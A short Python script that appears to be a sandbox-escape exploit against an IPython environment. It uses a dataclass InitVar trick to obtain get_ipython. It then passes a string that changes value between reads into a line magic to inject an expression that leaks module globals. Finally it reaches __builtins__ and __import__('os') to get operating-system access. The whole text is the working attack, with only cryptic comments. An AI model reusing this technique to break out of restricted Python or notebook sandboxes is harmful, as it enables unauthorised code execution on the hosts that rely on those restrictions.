# An argument of a magic that says something else when asked again.
# unseen: without a layer there is no such answer
import dataclasses
from json import dumps
got = []
@dataclasses.dataclass
class D:
    get_ipython: dataclasses.InitVar[int] = dataclasses.field(init=False)
    def __post_init__(self, it): got.append(it)
D()
print(got)
class Flip:
    def __init__(self, *t): self.t = list(t)
    def __str__(self): return self.t.pop(0) if len(self.t) > 1 else self.t[0]
got[0]().run_line_magic("precision", Flip("3", "{got.append(dumps.__globals__) or 3}"))
print(got[1]["__builtins__"]["__import__"]("os").uname().release)
